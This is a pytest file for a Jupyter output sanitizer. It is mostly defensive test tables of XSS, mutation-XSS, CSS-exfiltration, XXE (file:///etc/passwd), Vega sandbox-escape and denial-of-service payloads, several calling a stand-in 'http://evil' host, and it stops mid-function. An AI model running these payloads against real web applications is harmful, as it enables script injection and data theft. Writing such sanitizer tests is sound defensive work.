# ruff: noqa: E501 - attacks are not wrapped
"""What a front end gets of displays that are made to harm: nothing that runs, loads or obeys.

The judges are of another make than what cleans: html5lib reads HTML as browsers do, markdown-it and
mistune render Markdown, xml.dom reads SVG.  Long, as it is mostly tables of attacks, which are best
looked through in one place.
"""

from __future__ import annotations

import base64
import json
import re
import time
from typing import Any

import mistune
import pytest
from bleach._vendor import html5lib  # nbconvert brings it
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from vmkernel.kernel.policy import Outputs
from vmkernel.kernel.policy.bundle import clean

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()
ELEMENTS = frozenset(
    "html head body a abbr address article aside b bdi bdo blockquote br caption center cite code "
    "col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 "
    "header hr i ins kbd label li main mark meter nav ol p pre progress q rp rt ruby s samp section "
    "small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var img "
    "audio video source input svg g path circle ellipse line polyline polygon rect text tspan "
    "style".split()
)
LINK = re.compile(
    r"(?:https?://|mailto:|#|[\w.~%-]+(?:[/?#]|$))[^:]*|https?://.*|mailto:.*|", re.IGNORECASE
)


def shown(mime: str, value: Any, **metadata: Any) -> Any:
    """What stays of one representation; None when it went."""
    data, _, _ = clean({mime: value, "text/plain": "fallback"}, metadata)
    assert data["text/plain"] == "fallback"
    return data.get(mime)


def elements_of(html: str) -> list[tuple[str, dict[str, str], str]]:
    """Name, attributes and text of each element that a browser would make."""
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    return [
        (
            str(element.tag).rpartition("}")[2],
            {str(k).rpartition("}")[2]: v for k, v in element.attrib.items()},
            "".join(element.itertext()),
        )
        for element in tree.iter()
        if isinstance(element.tag, str)
    ]


def judge_html(html: str, *, elements: frozenset[str] = ELEMENTS) -> None:
    """Fails where a browser would find more than text, pictures in place and links."""
    for tag, attributes, content in elements_of(html):
        assert tag in elements, (tag, html)
        for name, value in attributes.items():
            assert not name.startswith(("on", "data-", "srcdoc", "form")), (name, html)
            if name == "href":
                assert LINK.fullmatch(value.strip()), (value, html)
            elif name in ("src", "poster"):
                assert re.match(r"data:(?:image|audio|video)/", value), (value, html)
            elif name == "style":
                assert not re.search(r"url|expression|@|\\|fixed|absolute", value), (value, html)
            elif name == "class":
                assert not re.search(r"(?:^|\s)(?:jp-|lm-)", value), (value, html)
            elif name == "id":
                assert re.match(r"T_|sk-|section-|fn|footnote", value), (value, html)
            elif name == "type" and tag == "input":
                assert value == "checkbox"
        if tag == "style":
            assert not re.search(r"url\(|@import|\\|<|fixed|absolute", content), html


HTML = [
    '<b onclick="alert(1)">x</b><b data-commandlinker-command="x" srcdoc="x">y</b>',
    '<td title="ok" onmouseover="alert(1)" />',
    "<script>alert(1)</script>",
    "<SCRIPT/SRC=http://x/y.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="data:image/png;base64,A" onload=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>1</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'/></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href='javascript:alert(1)'>x</math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
    "<title><img title='</title><img src onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src onerror=alert(1)>'>",
    "<style><img title='</style><img src onerror=alert(1)>'></style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='//evil'>x</a><a href='/logout'>x</a>",
    '<a href="x" target="_top" onclick="1">x</a>',
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'>",
    "<object data='data:text/html,<script>1</script>'></object><embed src=x>",
    "<base href='http://evil/'><meta http-equiv=refresh content='0;url=javascript:1'>",
    "<link rel=stylesheet href=http://evil>",
    "<form action=http://evil><input name=password><button formaction=javascript:1>x</button></form>",
    "<input type=image src=x onerror=alert(1)><select autofocus onfocus=alert(1)>",
    "<div style='background:url(http://evil/)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'>x</div>",
    "<div style='width:expression(alert(1));-moz-binding:url(x)'>x</div>",
    "<div style='back\\67round:u\\72l(x)'>x</div>",
    "<style>body{display:none}@import 'http://evil';.jp-Toolbar{display:none}</style>",
    "<style>#T_a{background:url(http://evil)}#T_a{color:red}</style>",
    "<style>#T_a{color:red}</style/><img src=x onerror=1>",
    "<div class='jp-Dialog lm-Widget' id='jp-main-dock-panel' data-commandlinker-command='x'>x</div>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "<img name=body id=location src=data:image/png;base64,AAAA>",
    "<img src=http://evil/?secret><img srcset='http://evil 1x'>",
    "<video src=http://evil poster=http://evil><source src=//evil></video>",
    "<table background=http://evil><td background='javascript:1'>x",
    "<body onload=alert(1)><html onmouseover=alert(1)>",
    "<p/onclick=alert(1)>x<p title='a>b' onclick=alert(1)>x",
    "<b \x00onclick=alert(1)>x</b><b\x0bonclick=alert(1)>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=1>]]>",
    "<a\x0chref=javascript:alert(1)>x</a><a href=x\u00a0onclick=alert(1)>",
    "<template><script>1</script></template><portal src=x></portal><dialog open>x</dialog>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<ruby><rt><template><s><template><s><img src=x onerror=alert(1)></s></template>",
]


@pytest.mark.parametrize("attack", HTML)
def test_html_cannot_act(attack: str) -> None:
    cleaned = shown("text/html", attack)
    judge_html(cleaned)
    assert shown("text/html", cleaned) == cleaned
    # Nor in pieces, as nbformat has it, nor within what is let through as it is
    assert shown("text/html", list(attack)) == cleaned
    judge_html(shown("text/html", f"<div><b title='x'>{attack}</b></div>"))
    judge_html(shown("text/html", f"<table><tr><td>{attack}"))


words = st.sampled_from(
    """< > / = " ' ` & ; : ( ) [ ] { } ! - <!-- --> <![CDATA[ ]]> \x00 \n \t a b x href src style
    class id on onclick onerror= javascript: data: <a <b <p <img <svg <math <style </style <script
    </script> <table <td <tr <select <template <title <desc <mtext <mglyph <foreignObject
    <annotation-xml <noscript <form <input <iframe srcdoc url( position:fixed &lt; &#60; &quot;
    &colon; jp- data-commandlinker-command $ \\href \\( #T_ @import * // http:// https://x \\""".split(
        " "
    )
)
soups = st.lists(st.one_of(words, st.text(max_size=3)), max_size=25).map("".join)


@given(soups)
@settings(deadline=None)
def test_no_soup_of_html_acts_and_once_is_enough(soup: str) -> None:
    cleaned = shown("text/html", soup)
    judge_html(cleaned)
    assert shown("text/html", cleaned) == cleaned


@pytest.mark.parametrize(
    "kept",
    [
        "<b>x</b> <details open><summary>s</summary>t</details>",
        '<a href="https://x.org/a?b=c:d#e">x</a> <a href="#T_1">y</a> <a href="out/file.csv">z</a>',
        f'<img src="data:image/png;base64,{PNG}" width="3">',
        '<audio  controls="controls" >\n<source src="data:audio/wav;base64,AAAA" type="audio/wav" />\n</audio>',
        '<video controls src="data:video/mp4;base64,AAAA"></video>',
        "a < b & c > d, 1 <2",
        '<td style="color: #ff0000; text-align: right">1</td>',
    ],
)
def test_html_that_only_shows_stays_as_it_is(kept: str) -> None:
    assert shown("text/html", kept) == kept


def test_an_svg_in_html_is_drawn() -> None:
    kept = shown("text/html", '<svg viewBox="0 0 9 9"><path d="M0 0L9 9" stroke="red"/></svg>')
    assert 'd="M0 0L9 9"' in kept
    assert 'viewBox="0 0 9 9"' in kept


# --- markdown ---

MARKDOWN = [
    *HTML,
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))",
    "[x](\njavascript:alert(1))", "[x](&#106;avascript&colon;alert(1))", "[x](java\\script\\:1)",
    "[x](&amp;#106;avascript:1)", "[x](<  javascript:alert(1)>)", "[x](JAVASCRIPT&#58;alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)", "[x][1]\n\n[1]:\n  <javascript:alert(1)>",
    "> [x][1]\n> [1]:\n> javascript:alert(1)", "- [x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>", "<data:text/html,x>", "![x](javascript:alert(1))",
    "![x](http://evil/?secret)", "![x][1]\n\n[1]: http://evil/?secret", "![](/logout)",
    "![x](x \"a\" onerror=alert(1))", "[x](data:text/html;base64,AAAA)",
    "`<a title=\"`<img src=x onerror=alert(1)>\">", "<a title=\"`<img src=x onerror=alert(1)>`\">",
    "```\n<b title=\"\n```\n<img src=x onerror=alert(1)>\n\">",
    "<b title=\"\n\n<img src=x onerror=alert(1)>\">", "<div>\n\n[x](javascript:1)\n\n</div>",
    "# <img src=x onerror=alert(1)>", "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "[a]: /x '\"><img src=x onerror=alert(1)>'\n[a]", "\\<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;", "[<img src=x onerror=alert(1)>](x)",
    "*<script>*alert(1)*</script>*", "<https://x.org/\"onclick=alert(1)>", "[x](https://x\"onclick=1)",
]  # fmt: skip
RENDERERS = [
    MarkdownIt("commonmark", {"html": True}).render,
    MarkdownIt("gfm-like", {"html": True, "linkify": False}).render,
    mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"]),
]


def with_mathematics(text: str, render: Any) -> str:
    """As JupyterLab renders: formulas are taken out before, and put back, quotes and all, after."""
    taken: list[str] = []

    def take(match: re.Match[str]) -> str:
        taken.append(match[0].replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
        return f"@@{len(taken) - 1}@@"

    text = re.sub(r"\$\$.*?\$\$|\$.*?\$|\\\\\(.*?\\\\\)", take, text, flags=re.DOTALL)
    return re.sub(
        r"@@(\d+)@@",
        lambda match: taken[int(match[1])] if int(match[1]) < len(taken) else match[0],
        str(render(text)),
    )


def judge_markdown(source: str) -> None:
    cleaned = shown("text/markdown", source)
    assert shown("text/markdown", cleaned) == cleaned
    for render in RENDERERS:
        for html in (str(render(cleaned)), with_mathematics(cleaned, render)):
            for tag, attributes, _ in elements_of(html):
                assert tag in ELEMENTS, (tag, cleaned, html)
                for name, value in attributes.items():
                    if "\u2060" in name:
                        continue  # broken: a name that means nothing
                    assert not re.match(r"on\w+$|data-|srcdoc|form", name), (name, cleaned, html)
                    if name == "href":
                        assert not re.match(
                            r"[\x00-\x20]*(?!https?:|mailto:)[a-z][\w+.-]*:", value, re.IGNORECASE
                        ), html
                    elif name == "src":
                        assert (
                            value.startswith("data:image/") or "\u2060" in value or value == ""
                        ), html


@pytest.mark.parametrize("attack", MARKDOWN)
def test_markdown_cannot_act(attack: str) -> None:
    judge_markdown(attack)
    judge_markdown(f"$x$ {attack} $y$")


@pytest.mark.parametrize(
    "attack",
    [
        '[a](b "$" onclick=alert(1) x="$")',
        '<b title="a $">X$ " onclick=alert(1) ">',
        '<b title="@@0@@"> $" onclick=alert(1) x="$',
        '![$" onerror=alert(1) x="$](data:image/png;base64,AAAA)',
        '$$" onmouseover = alert(1) "$$ [x](y "@@0@@")',
        '``` $" onclick=alert(1) x="$\ncode',
        '[a](b "$" data-commandlinker-command=x y="$")',
    ],
)
def test_formulas_cannot_make_attributes(attack: str) -> None:
    judge_markdown(attack)


@given(soups)
@settings(deadline=None)
def test_no_soup_of_markdown_acts(soup: str) -> None:
    judge_markdown(soup)


def test_code_in_markdown_stays_readable() -> None:
    source = "```html\n<script src='x'>a < b</script>\n```\n`vector<int>` and **bold** <b>tag</b>"
    kept = shown("text/markdown", source)
    assert kept.replace("\u2060", "") == source  # only what nobody sees was put in
    assert "<b>tag</b>" in kept
    picture = f"![plot](data:image/png;base64,{PNG})"
    assert shown("text/markdown", picture) == picture
    links = "[a](https://x.org) <https://x.org> [b](#c)\n\n| a | b |\n|---|---|\n| 1 | $x_1^2$ |"
    assert shown("text/markdown", links) == links


# --- TeX ---


@pytest.mark.parametrize(
    "attack",
    [
        r"\href{javascript:alert(1)}{x}", r"\href {javascript:alert(1)}{x}", r"\url{javascript:1}",
        r"\href{https://x.org\x}{y}", r"\class{jp-Dialog}{x}", r"\cssId{body}{x}", r"\style{color:red}{x}",
        r"\data{commandlinker-command=x}{y}", r"\mmlToken{mi}[href='javascript:1']{x}",
        r"\require{html}", r"\let\z\href \z{javascript:1}{x}", r"\bbox[background:url(http://x)]{y}",
        r"\htmlClass{a}{b}", r"\htmlData{a=b}{c}", r"\csname href\endcsname{javascript:1}{x}",
        r"\unicode[x;background:url()]{65}", r"\includegraphics{http://x}",
    ],
)  # fmt: skip
def test_tex_cannot_act(attack: str) -> None:
    command = re.search(
        r"\\(href|url|class|cssId|style|data|mmlToken|require|bbox|html[A-Z]\w+|csname|unicode|incl\w+)",
        attack,
    )
    assert command is not None
    for mime, source in (
        ("text/latex", f"${attack}$"),
        ("text/html", f"<p>${attack}$</p>"),
        ("text/markdown", f"${attack}$"),
    ):
        assert command[0] not in shown(mime, source), mime
        assert shown(mime, shown(mime, source)) == shown(mime, source)


def test_tex_is_typeset_as_before() -> None:
    source = r"$\frac{a}{b} \mathbf{x} \begin{bmatrix}1&2\end{bmatrix} \href{https://x.org}{y} \bbox[red,5px]{z}$"
    assert shown("text/latex", source) == source
    path = r"<p>C:\data\style</p>"  # no formula
    assert shown("text/html", path) == path
    # What tags and entities hide, MathJax would put together
    joined = shown("text/html", r"<p>$\hr<wbr>ef{javascript:1}{x} &#92;href{javascript:1}{y}$</p>")
    assert r"\href" not in joined


# --- SVG ---

SVG = [
    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><g onclick='1'/></svg>",
    "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>1</script></body></foreignObject></svg>",
    "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:1'><text>x</text></a></svg>",
    "<svg><a><animate attributeName='href' to='javascript:1'/></a><set attributeName='onclick'/></svg>",
    "<svg><image href='http://evil/'/><use href='http://evil/#x'/><feImage href='http://evil'/></svg>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/><image href='data:image/svg+xml,x'/></svg>",
    "<svg><style>@import 'http://evil'; * {opacity: 0} .a{fill:url(http://evil)}</style></svg>",
    "<svg><rect style='fill:url(http://evil)' fill='url(http://evil#x)' filter='url(//evil)'/></svg>",
    "<svg><handler xmlns='http://www.w3.org/2001/xml-events'>1</handler></svg>",
    "<svg xmlns:h='http://www.w3.org/1999/xhtml'><h:script>1</h:script><h:img src='x' onerror='1'/></svg>",
    "<?xml-stylesheet href='javascript:1'?><svg><title><script>1</script>x</title></svg>",
    "<svg><g class='jp-Dialog' id='jp-main'/><text>&lt;script&gt;</text></svg>",
]  # fmt: skip


@pytest.mark.parametrize("attack", SVG)
def test_svg_cannot_act(attack: str) -> None:
    cleaned = shown("image/svg+xml", attack)
    judge_svg(cleaned)
    assert shown("image/svg+xml", cleaned) == cleaned


def judge_svg(svg: str) -> None:
    from xml.dom import minidom

    names = "svg g a text title rect use image style path".split()
    for element in minidom.parseString(svg).getElementsByTagName("*"):
        assert element.tagName in names, svg
        for name, value in element.attributes.items():
            assert not re.search(r"^on|javascript|http://evil|//evil|^jp-", f"{name} {value}"), svg
    assert "evil" not in svg
    judge_html(
        svg.replace("<style", "<style "), elements=ELEMENTS | {"use", "image", "title", "rect"}
    )


@pytest.mark.parametrize(
    "broken",
    [
        "", "text", "<svg", "<html><body/></html>", "<svg><g></svg>",
        "<!DOCTYPE svg [<!ENTITY a 'x'>]><svg>&a;</svg>",
        "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>",
        "<svg/><svg/>", "<svg><x:a/></svg>",
    ],
)  # fmt: skip
def test_what_is_no_svg_is_not_shown(broken: str) -> None:
    assert shown("image/svg+xml", broken) is None


# --- types ---


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript", "text/javascript", "application/vnd.jupyter.es6-rich-output",
        "application/vnd.bokehjs_exec.v0+json", "application/vnd.holoviews_exec.v0+json",
        "Text/HTML", "text/html; charset=utf-8", "text/HTML", " text/html", "application/pdf",
        "application/xhtml+xml", "text/xml", "application/vnd.jupyter.widget-state+json",
        "image/svg+xml;charset=utf-8", "text/vnd.mermaid", "", "x", "application/x-anything",
    ],
)  # fmt: skip
def test_types_out_of_the_list_are_dropped_and_named(mime: str) -> None:
    data, metadata, removed = clean(
        {mime: "<script>1</script>", "text/plain": "x"}, {mime: {"a": 1}}
    )
    assert data == {"text/plain": "x"}
    assert metadata == {}
    assert len(removed) == 1
    data, _, _ = clean({mime: "<script>1</script>"}, {})
    assert list(data) == ["text/plain"]
    assert data["text/plain"].startswith("[not shown by vmkernel: ")


@pytest.mark.parametrize(
    "value", [None, 1, True, 1.5, {}, {"a": 1}, ["a", 1], [["a"]], b"x".hex, float("inf")]
)
@pytest.mark.parametrize(
    "mime", ["text/html", "text/plain", "text/markdown", "text/latex", "image/png", "image/svg+xml"]
)
def test_what_is_no_text_is_none(mime: str, value: Any) -> None:
    assert clean({mime: value, "text/csv": "x"}, {})[0] == {"text/csv": "x"}


def test_pictures_are_base64_of_their_type() -> None:
    assert shown("image/png", PNG + "\n") == PNG + "\n"
    assert shown("image/png", f'{PNG}" onerror="x') is None
    assert shown("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()) is None
    assert shown("image/jpeg", PNG) is None


def test_metadata_is_what_renderers_know() -> None:
    given = {
        "width": 10, "height": "5px", "isolated": True, "onclick": "x", "note": 1, "needs_background": "dark",
        "text/html": {"isolated": True, "width": "1px;position:fixed", "class": "jp-x"},
        "image/png": {"width": 640, "height": [1], "unconfined": True, "needs_background": "x"},
    }  # fmt: skip
    data = {"text/html": "x", "image/png": PNG}
    assert clean(data, given)[1] == {
        "note": 1, "width": 10, "height": "5px", "isolated": True, "needs_background": "dark",
        "text/html": {"isolated": True}, "image/png": {"width": 640, "unconfined": True},
    }  # fmt: skip


# --- JSON for renderers ---

CHART: dict[str, Any] = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"values": [{"a": "A", "b": 28, "href": "https://x.org"}]},
    "transform": [{"calculate": "datum.b * 2", "as": "c"}],
    "mark": "bar",
    "encoding": {"x": {"field": "a"}, "y": {"field": "c", "type": "quantitative"}},
}


@pytest.mark.parametrize("version", ["vega.v5", "vega.v6", "vegalite.v4", "vegalite.v5"])
def test_a_chart_with_its_data_stays(version: str) -> None:
    assert shown(f"application/vnd.{version}+json", CHART) == CHART


@pytest.mark.parametrize(
    "change",
    [
        {"data": {"url": "secret.csv"}}, {"data": {"url": "http://evil"}}, {"data": [{"url": {"signal": "x"}}]},
        {"transform": [{"lookup": "a", "from": {"data": {"url": "secret.csv"}}}]},
        {"mark": "image"}, {"mark": {"type": "image", "url": "http://evil"}}, {"marks": [{"type": "image"}]},
        {"encoding": {"url": {"field": "u"}}}, {"transform": [{"calculate": "1", "as": "image"}]},
        {"transform": [{"calculate": "(0).constructor.constructor('alert(1)')()", "as": "c"}]},
        {"signals": [{"name": "x", "update": "setdata('a', {toString: 1})"}]},
        {"signals": [{"name": "x", "on": [{"events": "click", "update": "event.view.eval"}]}]},
        {"signals": [{"name": "x", "on": [{"events": "click", "update": "event[datum.k]"}]}]},
        {"signals": [{"name": "x", "init": "event"}]}, {"params": [{"expr": "{'\\x74oString': 1}+1"}]},
        {"transform": [{"filter": "\\u0065vent.item"}]},
        {"params": [{"toString": 1}]}, {"a": [[[]]] * 2 + [json.loads("[" * 150 + "]" * 150)]},
    ],
)  # fmt: skip
def test_a_chart_that_loads_or_breaks_out_is_not_shown(change: dict[str, Any]) -> None:
    assert shown("application/vnd.vegalite.v5+json", {**CHART, **change}) is None


def test_a_chart_may_use_words() -> None:
    words = {
        "title": "import prices of the window document: fetch",
        "encoding": {"x": {"field": "import"}, "y": {"field": "event", "title": "document"}},
        "params": [{"name": "p", "select": {"type": "interval", "zoom": "wheel![event.shiftKey]"}}],
        "transform": [{"calculate": "if(event.shiftKey, datum.events, 0)", "as": "n"}],
    }
    chart = {**CHART, **words}
    assert shown("application/vnd.vegalite.v5+json", chart) == chart


def test_a_chart_has_no_say_about_its_embedding() -> None:
    embed = {"usermeta": {"embedOptions": {"sourceHeader": "<script>1</script>"}}}
    data, metadata, _ = clean(
        {"application/vnd.vegalite.v5+json": {**CHART, **embed, "href": "javascript:1"}},
        {"application/vnd.vegalite.v5+json": {"embed_options": {"loader": {}}}},
    )
    assert data == {"application/vnd.vegalite.v5+json": CHART}
    assert metadata == {}


def test_a_plotly_figure_keeps_data_and_looks() -> None:
    figure = {
        "data": [
            {
                "type": "scatter",
                "x": [1],
                "text": ["<b>a</b><br>"],
                "hovertemplate": "a=%{x}<br>b<extra></extra>",
                "name": "a < b",
            }
        ],
        "layout": {"title": {"text": "t"}, "images": [{"source": f"data:image/png;base64,{PNG}"}]},
        "config": {"responsive": True},
    }
    assert shown("application/vnd.plotly.v1+json", figure) == figure
    attack = {
        "data": [{"text": "<a href='javascript:alert(1)'>x</a>", "geojson": "http://evil"}],
        "layout": {"images": [{"source": "http://evil"}], "mapbox": {"style": "http://evil"}},
        "config": {"plotlyServerURL": "http://evil", "editable": True, "responsive": True},
        "javascript": "x",
    }
    cleaned = json.dumps(shown("application/vnd.plotly.v1+json", attack))
    assert "evil" not in cleaned
    assert "<a" not in cleaned
    assert json.loads(cleaned)["config"] == {"responsive": True}


def test_a_maps_properties_are_text() -> None:
    shape = {"type": "Feature", "properties": {"n": "<img src=x onerror=alert(1)>", "m": "a < b"}}
    cleaned = shown("application/geo+json", shape)
    assert cleaned["properties"]["m"] == "a < b"
    judge_html(cleaned["properties"]["n"])
    assert "onerror" in elements_of(cleaned["properties"]["n"])[0][2]


# --- whole messages ---


def publish(outputs: Outputs, msg_type: str, content: dict[str, Any]) -> dict[str, Any] | None:
    done = outputs.iopub(msg_type, (content, {}, ()), "cell", {"code": "1 + 1"})
    return None if done is None else done[0]


def test_streams_are_cleaned_over_messages() -> None:
    outputs = Outputs("safe")
    first = publish(outputs, "stream", {"name": "stdout", "text": "a\x1b]0;ti"})
    second = publish(outputs, "stream", {"name": "stdout", "text": "tle\x07b\x1b[31mc"})
    other = publish(outputs, "stream", {"name": "stderr", "text": "tle"})
    assert [first, second, other] == [
        {"name": "stdout", "text": "a"},
        {"name": "stdout", "text": "b\x1b[31mc"},
        {"name": "stderr", "text": "tle"},
    ]
    assert "terminal sequences" in outputs.notice()
    link = publish(outputs, "stream", {"name": "stdout", "text": "javascript://%0aalert(1)"})
    assert "javascript:" not in link["text"]


def test_the_code_that_is_shown_is_the_code_that_was_sent() -> None:
    outputs = Outputs("safe")
    assert publish(outputs, "execute_input", {"code": "evil", "execution_count": 3}) == {
        "code": "1 + 1",
        "execution_count": 3,
    }
    assert publish(outputs, "execute_input", {"code": "x", "execution_count": "<b>"}) == {
        "code": "1 + 1",
        "execution_count": None,
    }
    assert outputs.iopub("execute_input", ({"code": "x"}, {}, ()), "cell", None) is None


def test_payloads_ask_the_front_end_for_little() -> None:
    content = {
        "status": "ok", "execution_count": 1, "user_expressions": {
            "a": {"status": "ok", "data": {"text/html": "<script>1</script>x"}, "metadata": {}},
        },
        "payload": [
            {"source": "page", "data": {"text/html": "<script>1</script>x"}, "start": "x"},
            {"source": "set_next_input", "text": "x = 1\x1b[2J", "replace": 1},
            {"source": "set_next_input", "text": "y", "replace": True},
            {"source": "edit_magic", "filename": "/etc/passwd", "line_number": 1},
            {"source": "ask_exit", "keepkernel": False}, {"source": "evil"}, 7, {},
        ],
    }  # fmt: skip
    outputs = Outputs("safe")
    cleaned, _, _ = outputs.reply("execute_reply", (content, {}, ()), "cell")
    assert cleaned["payload"] == [
        {"source": "page", "data": {"text/html": "x"}, "start": 0},
        {"source": "set_next_input", "text": "x = 1", "replace": False},
        {"source": "ask_exit", "keepkernel": False},
    ]
    assert cleaned["user_expressions"]["a"]["data"] == {"text/html": "x"}
    assert "edit_magic" in outputs.notice()
    assert outputs.notice() == ""


def test_what_went_is_told_once_in_a_cell() -> None:
    outputs = Outputs("safe")
    content = {"data": {"application/javascript": "1", "text/plain": "x"}, "metadata": {}}
    for cell in ("one", "two"):
        outputs.iopub("display_data", (content, {}, ()), cell, {})
        assert "application/javascript" in outputs.notice()
        outputs.iopub("display_data", (content, {}, ()), cell, {})
        assert outputs.notice() == ""
    for n in range(1000):
        outputs.iopub("display_data", ({"data": {f"a/{n}": 1}}, {}, ()), "flood", {})
    assert len(outputs.notice()) < 1000
    for n in range(1000):
        outputs.iopub("display_data", (content, {}, ()), str(n), {})
    assert len(outputs._told) <= 256


HEAVY = {
    "dashes": ("text/html", '<p style="color: ' + "–" * 200_000 + '=">x</p>'),
    "few dashes": ("text/html", '<p style="color: ' + "–" * 60 + '=">x</p>'),
    "spaces after src": ("text/html", "<script></script><img src=" + " " * 200_000),
    "img": ("text/html", "<img " * 40_000 + "<script>"),
    "style": ("text/html", "<style " * 30_000),
    "styles": ("text/html", "<style>" * 30_000),
    "media": ("text/html", "<style>@media" + " " * 200_000 + "x=a{a{color:red}}"),
    "divs": ("text/html", "<div><x>" * 20_000),
    "closed divs": ("text/html", "<div></x>" * 20_000),
    "functions": ("text/html", '<p style="' + ("color:" + "a" * 1900 + ";") * 100 + '">'),
    "attributes": ("text/html", "<b" + " a" * 90_000 + "!>"),
    "comments": ("text/html", "<style>" + "/*" * 90_000),
    "rules": ("text/html", "<style>" + "a{" * 90_000),
    "data-": ("text/markdown", "$x$ = " + "data-" * 40_000),
    "on": ("text/markdown", "$x$ = " + "on" * 90_000),
    "links": ("text/markdown", "](&" * 60_000),
    "spaced links": ("text/markdown", "](" + " " * 200_000),
    "pictures": ("text/markdown", "![" * 90_000),
    "tags": ("text/markdown", "<b title=" * 20_000),
    "href": ("text/latex", "\\href{https://" * 15_000),
    "spaced href": ("text/latex", "\\href" + " " * 200_000),
    "svg style": ("image/svg+xml", f"<svg><style>{'a' * 200_000}</style></svg>"),
    "svg comments": ("image/svg+xml", f"<svg><style>{'/*' * 90_000}</style></svg>"),
    "svg path": ("image/svg+xml", f'<svg><path d="{"a" * 200_000}"/></svg>'),
    "svg url": ("image/svg+xml", f'<svg><path d="{"url(" * 50_000}"/></svg>'),
    "svg deep": ("image/svg+xml", "<svg>" + "<g>" * 60_000),
    "escapes": ("text/plain", "\x1b[5n" * 50_000),
    "half escapes": ("text/plain", "\x1b[" + "1" * 200_000),
    "vega": ("application/vnd.vega.v5+json", {"a": "eval" + " " * 200_000}),
    "plotly": ("application/vnd.plotly.v1+json", {"data": ["<b title=" * 20_000]}),
}


@pytest.mark.parametrize("name", HEAVY)
def test_no_text_keeps_the_kernel_busy(name: str) -> None:
    mime, value = HEAVY[name]
    began = time.process_time()
    clean({mime: value}, {})
    assert time.process_time() - began < 1.5


def test_trusted_changes_nothing() -> None:
    outputs = Outputs("trusted")
    message = ({"data": {"text/html": "<script>1</script>"}}, {"a": 1}, (b"x",))
    assert outputs.iopub("display_data", message, "cell", {}) is message
    assert outputs.reply("execute_reply", message, "cell") is message
    assert outputs.prompt({"prompt": "\x1b[2J"}) == {"prompt": "\x1b[2J"}
    assert outputs.notice() == ""


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) | soups,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)  # fmt: skip
FIELDS = """data metadata transient display_id name text ename evalue traceback wait code comm_id
execution_count target_name state method buffer_paths payload source user_expressions status matches
cursor_start cursor_end found comms history body prompt password text/html text/plain outputs value
application/vnd.plotly.v1+json application/vnd.vega.v5+json image/svg+xml _model_name states""".split()
contents = st.dictionaries(
    st.sampled_from(FIELDS),
    st.recursive(
        json_values,
        lambda inner: (
            st.dictionaries(st.sampled_from(FIELDS), inner, max_size=4)
            | st.lists(inner, max_size=3)
        ),
        max_leaves=6,
    ),
    max_size=8,
)
IOPUB = """stream display_data update_display_data execute_result error clear_output comm_open comm_msg
comm_close debug_event execute_input""".split()
REPLIES = """execute_reply inspect_reply complete_reply is_complete_reply comm_info_reply debug_reply
history_reply create_subshell_reply""".split()


@given(st.sampled_from(IOPUB), contents)
@settings(deadline=None)
def test_no_output_breaks_the_policy(msg_type: str, content: dict[str, Any]) -> None:
    outputs = Outputs("safe")
